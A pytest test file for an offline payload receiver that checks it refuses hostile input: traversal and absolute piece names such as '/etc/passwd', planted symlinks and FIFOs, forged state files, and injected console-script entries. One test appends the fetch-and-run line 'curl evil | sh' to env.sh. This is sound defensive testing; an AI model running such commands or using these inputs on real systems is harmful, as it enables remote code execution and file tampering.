"""The offline receiver against hostile input: pieces.json and the pieces come from another machine,
and the folder the payload collects in may sit in a shared /tmp. Each case is refused with one
message (no traceback), nothing outside the receiver's own folder is read, written or deleted, and
no state the receiver did not verify is believed (issue 48, items 1 and 2).

Most cases run receive.py as the host runs it (a bare python3 on the file); the property tests call
its main() in-process, to keep hundreds of cases fast."""

from __future__ import annotations

import contextlib
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from offline_payload import RECEIVE, only, payload_tar, receive_module

from cookbook.offline import pack

receive = receive_module()


def _run(*args, env=None, timeout=30):
    return subprocess.run(
        [sys.executable, str(RECEIVE), *map(str, args)], capture_output=True, text=True, env=env, timeout=timeout
    )


@pytest.fixture
def good(tmp_path):
    """A real payload cut into 3 pieces: (pieces folder, manifest)."""
    out = tmp_path / "pieces"
    out.mkdir()
    payload = payload_tar(tmp_path)
    manifest = pack.split(payload, out, piece_bytes=payload.stat().st_size // 3 + 1)
    (out / "pieces.json").write_text(json.dumps(manifest))
    return out, manifest


def _one_error(r) -> None:
    assert "Traceback" not in r.stderr, r.stderr
    assert r.stderr.count("error:") == 1, r.stderr


def _forge(good, tmp_path, edit) -> Path:
    out, manifest = good
    forged = json.loads(json.dumps(manifest))
    edit(forged)
    (out / "pieces.json").write_text(json.dumps(forged))
    return out


# --- names and shapes in pieces.json ---------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["/etc/hostname", "../piece-01", "sub/piece-01", "piece-01/..", ".", "..", "", "piece-1\n", "PIECE-01", 7, None],
)
def test_a_piece_name_that_is_not_a_plain_piece_name_is_refused(good, tmp_path, name):
    victim = tmp_path / "victim"
    victim.write_text("keep me")

    def edit(m):
        m["pieces"][0]["name"] = str(victim) if name == "/etc/hostname" else name

    r = _run(_forge(good, tmp_path, edit), "--into", tmp_path / "host")
    assert r.returncode == 2, r.stderr
    _one_error(r)
    assert "pieces[0].name" in r.stderr and "help:" in r.stderr
    assert victim.read_text() == "keep me"  # an absolute name is never read, appended or deleted
    assert not (tmp_path / "host" / "payload.tar").exists()


@pytest.mark.parametrize(
    "edit, says",
    [
        (lambda m: m["pieces"].__setitem__(1, dict(m["pieces"][0])), "listed twice"),
        (lambda m: m["pieces"][1].__setitem__("offset", 0), "offset"),
        (lambda m: m["pieces"][2].__setitem__("size", 10**30), "add up to"),
        (lambda m: m["pieces"][0].__setitem__("size", -5), "size"),
        (lambda m: m["pieces"][0].__setitem__("size", True), "size"),
        (lambda m: m["pieces"][0].__setitem__("sha256", "../" * 21 + "a"), "sha256"),
        (lambda m: m.__setitem__("pieces", []), "pieces"),
        (lambda m: m.__setitem__("pieces", {"a": 1}), "pieces"),
        (lambda m: m.__setitem__("sha256", None), "sha256"),
        (lambda m: m.__setitem__("size", "12"), "size"),
        (lambda m: m["pieces"].append("piece-09"), "pieces[3]"),
    ],
)
def test_a_manifest_that_could_never_complete_is_refused_up_front(good, tmp_path, edit, says):
    r = _run(_forge(good, tmp_path, edit), "--into", tmp_path / "host")
    assert r.returncode == 2, r.stdout + r.stderr
    _one_error(r)
    assert says in r.stderr
    assert "still to come" not in r.stdout


@pytest.mark.parametrize(
    "text",
    ["", "{", "[" * 200_000 + "]" * 200_000, '"just a string"', "\udcff", "null", '{"sha256": ' + "9" * 5000 + "}"],
)
def test_malformed_pieces_json_is_one_message_exit_2(tmp_path, text):
    src = tmp_path / "pieces"
    src.mkdir()
    (src / "pieces.json").write_bytes(text.encode("utf-8", "surrogateescape"))
    r = _run(src, "--into", tmp_path / "host")
    assert r.returncode == 2
    _one_error(r)


def test_a_pieces_path_that_is_a_file_is_one_message_exit_2(good, tmp_path):
    piece = good[0] / "piece-01"  # a piece given where its folder belongs: the likeliest slip
    r = _run(piece, "--into", tmp_path / "host")
    assert r.returncode == 2
    _one_error(r)
    assert "is not a folder" in r.stderr and "Errno" not in r.stderr, r.stderr
    assert not (tmp_path / "host").exists() or not any((tmp_path / "host").iterdir())


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=20,
)
PIECE = st.fixed_dictionaries(
    {
        "name": st.text(max_size=20) | st.sampled_from(["../piece-01", "/etc/passwd", "piece-01/"]),
        "offset": JSON | st.integers(),
        "size": JSON | st.integers(),
    }
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    doc=JSON
    | st.fixed_dictionaries({"sha256": st.just("a" * 64), "size": st.integers(), "pieces": st.lists(PIECE, max_size=4)})
)
def test_any_json_as_pieces_json_is_refused_cleanly(tmp_path, doc):
    src = tmp_path / "pieces"
    src.mkdir(exist_ok=True)
    (src / "pieces.json").write_text(json.dumps(doc))
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = receive.main([str(src), "--into", str(tmp_path / "host")])
    assert code == 2 and err.getvalue().count("error:") == 1, err.getvalue()


# --- what a piece is ---------------------------------------------------------------------------------


def test_a_fifo_piece_or_pieces_json_is_refused_without_blocking(good, tmp_path):
    out, manifest = good
    first = out / manifest["pieces"][0]["name"]
    first.unlink()
    os.mkfifo(first)
    r = _run(out, "--into", tmp_path / "host", timeout=20)
    assert r.returncode == 2 and "FIFO" in r.stderr
    _one_error(r)
    fifo_dir = tmp_path / "fifo-manifest"
    fifo_dir.mkdir()
    os.mkfifo(fifo_dir / "pieces.json")
    r = _run(fifo_dir, "--into", tmp_path / "host2", timeout=20)
    assert r.returncode == 2 and "FIFO" in r.stderr


@pytest.mark.parametrize("target", ["/dev/zero", "outside"])
def test_a_piece_that_is_a_link_is_refused(good, tmp_path, target):
    out, manifest = good
    first = out / manifest["pieces"][0]["name"]
    real = tmp_path / "outside"
    real.write_bytes(first.read_bytes())  # even a link to the right bytes: pieces are plain files
    first.unlink()
    first.symlink_to(real if target == "outside" else target)
    r = _run(out, "--into", tmp_path / "host", timeout=20)
    assert r.returncode == 2 and "symbolic link" in r.stderr
    assert real.exists()


def test_a_piece_of_the_wrong_size_is_refused_before_it_is_hashed(good, tmp_path):
    out, manifest = good
    first = out / manifest["pieces"][0]["name"]
    first.write_bytes(first.read_bytes() + b"more")
    r = _run(out, "--into", tmp_path / "host")
    assert r.returncode == 1 and "bytes, pieces.json says" in r.stderr
    _one_error(r)


# --- the folder the payload collects in --------------------------------------------------------------


def test_the_default_folder_is_private_and_not_a_fixed_name_in_tmp(good, tmp_path):
    out, _ = good
    home = tmp_path / "home"
    home.mkdir()
    env = {k: v for k, v in os.environ.items() if k not in ("COOKBOOK_OFFLINE", "XDG_CACHE_HOME")}
    env["HOME"] = str(home)
    where = _run("--where", env=env).stdout.strip()
    assert where == str(home / ".cache" / "cookbook-offline")
    assert _run(out, env=env).returncode == 0
    assert stat.S_IMODE((home / ".cache" / "cookbook-offline").stat().st_mode) == 0o700
    env["XDG_CACHE_HOME"] = str(tmp_path / "xdg")
    assert _run("--where", env=env).stdout.strip() == str(tmp_path / "xdg" / "cookbook-offline")


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o770, 0o757])
def test_a_folder_others_can_write_is_refused(good, tmp_path, mode):
    out, _ = good
    into = tmp_path / "shared"
    into.mkdir()
    into.chmod(mode)
    r = _run(out, "--into", into)
    assert r.returncode == 2 and "group or others can write it" in r.stderr
    _one_error(r)
    assert list(into.iterdir()) == []


@pytest.mark.skipif(os.getuid() != 0, reason="making a folder of another user needs root")
def test_a_folder_of_another_user_is_refused(good, tmp_path):
    out, _ = good
    into = tmp_path / "theirs"
    into.mkdir(mode=0o700)
    os.chown(into, 4242, 4242)
    r = _run(out, "--into", into)
    assert r.returncode == 2 and "belongs to uid 4242" in r.stderr


def test_a_folder_that_is_a_link_is_refused(good, tmp_path):
    out, _ = good
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    (tmp_path / "link").symlink_to(real)
    r = _run(out, "--into", tmp_path / "link")
    assert r.returncode == 2 and "not a folder" in r.stderr
    assert list(real.iterdir()) == []


def test_a_planted_payload_link_is_refused_and_its_target_untouched(good, tmp_path):
    out, _ = good
    into = tmp_path / "host"
    into.mkdir(mode=0o700)
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    (into / "payload.tar").symlink_to(victim)
    (into / "piece-01").symlink_to(victim)
    r = _run(out, "--into", into)
    assert r.returncode == 2 and "symbolic link" in r.stderr
    assert victim.read_text() == "keep me"


def test_planted_state_and_env_sh_are_not_believed(good, tmp_path):
    out, manifest = good
    into = tmp_path / "host"
    into.mkdir(mode=0o700)
    (into / "received.json").write_text(json.dumps({"payload": manifest["sha256"], "done": 3}))
    (into / "env.sh").write_text("echo pwned\n")
    r = _run(only(out, [], tmp_path / "t0"), "--into", into)
    assert r.returncode == 0 and "3 of 3 pieces still to come" in r.stdout
    assert "installed" not in r.stdout
    assert _run("--installed", "--into", into).returncode == 1
    # an installed.json forged to vouch for the planted env.sh does not match its sha256
    (into / "installed.json").write_text(json.dumps({"payload": manifest["sha256"], "env_sh": "0" * 64}))
    r = _run(out, "--into", into)
    assert r.returncode == 1 and "not the file this receiver wrote" in r.stderr


def test_env_sh_edited_after_install_is_not_sourced(good, tmp_path):
    out, _ = good
    into = tmp_path / "host"
    assert _run(out, "--into", into).returncode == 0
    r = _run("--installed", "--into", into)
    assert r.returncode == 0 and r.stdout.strip() == str(into / "env.sh")
    with (into / "env.sh").open("a") as f:
        f.write("curl evil | sh\n")
    r = _run("--installed", "--into", into)
    assert r.returncode == 1 and "not sourcing it" in r.stderr
    r = _run(out, "--into", into)
    assert r.returncode == 1 and "installed" not in r.stdout


def test_a_tampered_payload_tail_is_rehashed_and_cut(good, tmp_path):
    out, manifest = good
    into = tmp_path / "host"
    names = [p["name"] for p in manifest["pieces"]]
    assert _run(only(out, names[:2], tmp_path / "t0"), "--into", into).returncode == 0
    payload = into / "payload.tar"
    data = bytearray(payload.read_bytes())
    data[manifest["pieces"][1]["offset"] + 3] ^= 0xFF  # the second piece, changed after it was appended
    payload.write_bytes(bytes(data) + b"junk")
    r = _run(only(out, names[2:], tmp_path / "t1"), "--into", into)
    assert (
        "cut off" in r.stdout
        and f"1 of 3 pieces still to come; holding {names[2]} until {names[1]} arrives" in r.stdout
    )
    r = _run(out, "--into", into)  # the whole set again: completes from the first good prefix
    assert r.returncode == 0 and "installed fakeengine==9.9" in r.stdout, r.stderr


def test_a_piece_that_comes_early_is_held_and_said_to_be(good, tmp_path):
    out, manifest = good
    into = tmp_path / "host"
    names = [p["name"] for p in manifest["pieces"]]
    r = _run(only(out, [names[2]], tmp_path / "t0"), "--into", into)
    assert r.returncode == 0 and f"2 of 3 pieces still to come; holding {names[2]} until {names[0]} arrives" in r.stdout
    r = _run(only(out, [names[0]], tmp_path / "t1"), "--into", into)
    assert f"received {names[0]}" in r.stdout and f"holding {names[2]} until {names[1]} arrives" in r.stdout
    r = _run(only(out, [names[1]], tmp_path / "t2"), "--into", into)
    assert r.returncode == 0 and "installed fakeengine==9.9" in r.stdout, r.stderr


def test_a_staged_piece_changed_while_waiting_is_not_appended(good, tmp_path):
    out, manifest = good
    into = tmp_path / "host"
    names = [p["name"] for p in manifest["pieces"]]
    assert _run(only(out, [names[1]], tmp_path / "t0"), "--into", into).returncode == 0
    staged = into / names[1]
    staged.write_bytes(b"X" * staged.stat().st_size)
    r = _run(only(out, [names[0]], tmp_path / "t1"), "--into", into)
    assert "changed since it was checked" in r.stdout and "2 of 3 pieces still to come" in r.stdout
    assert not staged.exists()


# --- console scripts named by the engine's entry points ----------------------------------------------


def test_console_script_names_and_targets_stay_inside_bin(tmp_path):
    evil = tmp_path / "evil-target"
    entry_points = (
        "[console_scripts]\n"
        "fakeengine = fakeengine:main\n"
        f"{evil} = fakeengine:main\n"
        "../../escaped = fakeengine:main\n"
        "sub/dir = fakeengine:main\n"
        "injected = os:system\n"
        "code = fakeengine:main()\\nimport os\n"
        "spaced = fake engine:main\n"
        "multi = fakeengine:main\n  import os\n"
    )
    out = tmp_path / "pieces"
    out.mkdir()
    pack_manifest = pack.split(payload_tar(tmp_path, entry_points), out, piece_bytes=1 << 30)
    (out / "pieces.json").write_text(json.dumps(pack_manifest))
    into = tmp_path / "host"
    r = _run(out, "--into", into)
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr
    assert not evil.exists() and not (tmp_path / "escaped").exists() and not (into / "escaped").exists()
    made = sorted(p.name for p in (into / "bin").iterdir())
    assert made == ["fakeengine", "injected"]  # os:system is a plain module:attr; nothing else is code
    assert r.stderr.count("skipped") == 6, r.stderr
    assert "import os" not in (into / "bin" / "fakeengine").read_text()
